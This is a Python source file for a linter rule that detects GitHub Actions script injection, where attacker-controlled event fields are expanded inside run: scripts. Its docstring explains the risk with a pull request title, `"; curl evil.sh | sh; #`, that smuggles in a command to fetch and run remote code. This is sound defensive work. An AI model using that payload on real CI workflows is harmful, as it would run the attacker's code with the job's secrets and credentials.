"""Attacker-controlled event data expanded inside a `run:` script

## What it flags
A `${{ ... }}` expression inside a `run:` script (or an `actions/github-script`
`script:`) that reads a field anyone can set from outside: issue, pull request and
discussion titles and bodies, comment and review bodies, branch names (`github.head_ref`,
`pull_request.head.ref`/`label`, `workflow_run.head_branch`), commit messages and author
names, wiki page names. The finding sits on the script line holding the expression.

Not flagged: the same value passed through `env:` and used as `"$VAR"`; trusted fields
such as `github.sha`, `github.event.pull_request.number` or `github.repository`.

## Why it matters
Expressions are substituted into the script text before the shell runs it. A pull
request titled `"; curl evil.sh | sh; #` runs that command with the job's secrets and
token: in a deploy workflow, your cloud credentials and registry push rights.

## How to fix
Pass the value through an environment variable and quote it in the script.

## Example
```yaml
- run: echo "Deploying ${{ github.event.pull_request.title }}"
```

```yaml
- env:
    TITLE: ${{ github.event.pull_request.title }}
  run: echo "Deploying $TITLE"
```

## References
- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from mlaudit.finding import Finding
from mlaudit.models.workflow import Workflow, expressions
from mlaudit.rule import Rule, RuleContext
from mlaudit.severity import Category, Severity
from mlaudit.span import Span

RULE = Rule(
    id="MLA406",
    name="workflow-script-injection",
    title="Attacker-controlled event data expanded inside a `run:` script",
    severity=Severity.HIGH,
    category=Category.CICD,
    target=Workflow,
    tags=("github-actions", "injection"),
    docs=__doc__ or "",
)

_ANY = r"(?:\[\d+\]|\[\*\]|\.\*)"  # commits[0], commits.*, commits[*]
_AUTHOR = r"(?:message|author\.(?:email|name))"
DANGEROUS = re.compile(
    r"\bgithub\.(?:head_ref\b|event\.(?:"
    r"(?:issue|pull_request|discussion)\.(?:title|body)"
    r"|(?:comment|review|review_comment)\.body"
    r"|pull_request\.head\.(?:ref|label|repo\.default_branch)"
    rf"|pages{_ANY}\.page_name"
    rf"|(?:commits{_ANY}|head_commit)\.{_AUTHOR}"
    rf"|workflow_run\.(?:head_branch|head_commit\.{_AUTHOR}"
    rf"|pull_requests{_ANY}\.head\.ref)"
    r")\b)"
)


def _dangerous(text: str) -> str | None:
    for _, _, inner in expressions(text):
        match = DANGEROUS.search(inner)
        if match:
            return match.group(0)
    return None


@RULE.check
def check(workflow: Workflow, ctx: RuleContext) -> Iterator[Finding]:
    for job in workflow.jobs:
        for step in job.steps:
            if step.run is not None:
                for line, text in step.run.lines:
                    field = _dangerous(text)
                    if field:
                        yield ctx.finding(
                            f"`run:` in job {job.id} expands attacker-controlled {field} "
                            "into the shell script",
                            Span(workflow.path, line), key=f"{job.id}:{field}:{text}")
            uses = step.uses
            script = step.input("script")
            if uses is not None and uses.is_action("actions/github-script") and script:
                field = _dangerous(script.value)
                if field:
                    yield ctx.finding(
                        f"github-script in job {job.id} expands attacker-controlled {field} "
                        "into the JavaScript source", script.span, key=f"{job.id}:{field}:js")
